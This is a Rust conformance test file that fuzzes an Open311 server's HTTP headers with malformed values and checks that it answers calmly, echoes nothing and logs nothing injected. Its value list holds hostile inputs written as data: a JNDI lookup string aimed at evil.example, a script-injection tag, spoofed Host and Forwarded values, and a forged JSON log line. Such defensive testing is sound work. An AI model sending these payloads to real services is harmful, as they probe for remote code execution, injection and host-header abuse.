//! Every header that the server reads, and some that it must not believe, with everything that does
//! not belong there: a documented status, nothing of it in an answer or in the log.

use std::collections::BTreeSet;
use std::time::Duration;

use conformance_tests::answer::Answer;
use conformance_tests::demo::Demo;
use conformance_tests::endpoint::{Format, text};
use conformance_tests::home::Home;
use conformance_tests::raw;
use conformance_tests::server::Server;

const PATIENCE: Duration = Duration::from_secs(30);
/// Part of every value; it must not come back.
const CANARY: &str = "canary7f3";
const HEADERS: [&str; 26] = [
    "Accept",
    "Accept-Charset",
    "Accept-Encoding",
    "Authorization",
    "Cookie",
    "Content-Encoding",
    "Content-Type",
    "Expect",
    "Forwarded",
    "Host",
    "Idempotency-Key",
    "If-Match",
    "If-Modified-Since",
    "If-None-Match",
    "If-Range",
    "Origin",
    "Range",
    "Referer",
    "TE",
    "User-Agent",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-HTTP-Method-Override",
    "X-Original-URL",
    "X-Request-Id",
];

fn values() -> Vec<Vec<u8>> {
    let texts = [
        "",
        "*",
        "*;q=0",
        "identity;q=0, *;q=0",
        "gzip;q=NaN, br;q=1e400, identity;q=-0",
        "W/\"",
        "\"\", W/\"\", *",
        "bytes=0-0,1-1,2-",
        "bytes=18446744073709551616-",
        "Thu, 30 Feb 2024 24:60:60 GMT",
        "Fri, 31 Dec 9999 23:59:60 GMT",
        "Bearer",
        "Bearer  ",
        "Basic ZGVtbzprZXk=",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=\"a\r",
        "application/x-www-form-urlencoded; charset=utf-16",
        "100-continue",
        "DELETE",
        "/metrics",
        "evil.example",
        "http://evil.example:99999/",
        "for=\"[::1]\";host=evil.example",
        "${jndi:ldap://evil.example}",
        "<script>alert(1)</script>",
        "{\"level\":\"ERROR\"}",
        "ünïcode",
    ];
    let marked = texts
        .iter()
        .map(|text| format!("{text}{CANARY}").replace('\r', ""));
    let bare = texts.iter().map(|text| text.replace('\r', ""));
    let raw = [&b"\xFC\xFF"[..], b"\xED\xA0\x80", b"a\tb"];
    let mut values: Vec<Vec<u8>> = marked.chain(bare).map(String::into_bytes).collect();
    values.extend(raw.map(|bytes| [bytes, CANARY.as_bytes()].concat()));
    values.push(CANARY.repeat(1_000).into_bytes());
    values.push(format!("{CANARY},").repeat(2_000).into_bytes());
    values
}

/// Sends one request with one more header and reads the one answer.
#[track_caller]
fn send(server: &Server, line: &str, header: &str, value: &[u8], body: &str) -> Answer {
    let host = if header == "Host" { "" } else { "Host: a\r\n" };
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let form = if header == "Content-Type" { "" } else { form };
    let length = body.len();
    let head = format!(
        "{line} HTTP/1.1\r\n{host}{form}Content-Length: {length}\r\nConnection: close\r\n{header}: "
    );
    let bytes = [head.as_bytes(), value, b"\r\n\r\n", body.as_bytes()].concat();
    let (received, closed) = raw::exchange(server.authority(), &bytes, PATIENCE);
    let asked = format!("{line} {header}: {}", String::from_utf8_lossy(value));
    assert!(closed, "{asked}");
    let mut answers = raw::answers(&asked, &received);
    answers.retain(|answer| answer.status != 100);
    assert_eq!(answers.len(), 1, "{asked}: {answers:?}");
    answers.remove(0)
}

/// Demands a status that the method documents and nothing of what was sent.
#[track_caller]
fn is_calm(answer: &Answer, documented: &[u16]) {
    assert!(
        documented.contains(&answer.status),
        "{}: {}",
        answer.asked,
        answer.shown()
    );
    if answer.status >= 400 {
        answer.faults(Format::Json, answer.status);
    }
    let everything = format!(
        "{:?}{}",
        answer.headers,
        String::from_utf8_lossy(&answer.body)
    );
    let echoes = answer.asked.contains("X-Request-Id");
    assert!(echoes || !everything.contains(CANARY), "{}", answer.asked);
    assert!(
        !everything.contains("evil.example"),
        "{}: {everything}",
        answer.asked
    );
}

#[test]
fn every_header_of_a_read_takes_every_value_calmly() {
    let server = Server::shared();
    let demo = Demo::boston();
    let id = demo.endpoint.find_ids(&[("page_size", "1")]).remove(0);
    let line = format!("GET /jurisdictions/boston.demo/open311/v2/requests/{id}.json");
    for header in HEADERS {
        for value in values() {
            let answer = send(server, &line, header, &value, "");
            is_calm(&answer, &[200, 304]);
        }
    }
    let line = "GET /jurisdictions/boston.demo/open311/v2/requests.json?page_size=1";
    for header in [
        "Host",
        "X-Forwarded-Host",
        "Forwarded",
        "X-Forwarded-Proto",
        "X-Original-URL",
    ] {
        let answer = send(server, line, header, b"evil.example", "");
        is_calm(&answer, &[200]);
        let next = answer.header("link").unwrap_or_default();
        assert!(next.contains(server.authority()), "{header}: {next}");
    }
}

#[test]
fn every_header_of_a_report_takes_every_value_calmly_and_refusals_write_nothing() {
    let home = Home::new();
    let server = home.serve_demo();
    let demo = Demo::boston_on(&server);
    let line = "POST /jurisdictions/boston.demo/open311/v2/requests.json";
    let body = demo.report(&demo.plain).encoded();
    let rows = || home.database().sql("select count(*) from service_request");
    let before: usize = rows().parse().unwrap();
    let mut taken = BTreeSet::new();
    for header in [
        "Authorization",
        "Content-Encoding",
        "Content-Type",
        "Expect",
        "Idempotency-Key",
        "Origin",
        "X-Request-Id",
    ] {
        for value in values() {
            let answer = send(&server, line, header, &value, &body);
            is_calm(&answer, &[200, 400, 403, 415]);
            if answer.status == 200 {
                taken.insert(text(&answer.row(), "service_request_id").to_owned());
            }
            if header == "Idempotency-Key" && answer.status == 400 {
                answer.blames(Format::Json, 400, "Idempotency-Key");
            }
            assert_eq!(answer.header("access-control-allow-origin"), None);
        }
    }
    assert!(!taken.is_empty());
    assert_eq!(rows().parse(), Ok(before + taken.len()));
    let log = server.log();
    assert!(
        log.lines()
            .all(|line| line.starts_with('{') && line.ends_with('}'))
    );
    assert!(!log.contains(&format!("{CANARY},")) && !log.contains("evil.example"));
}
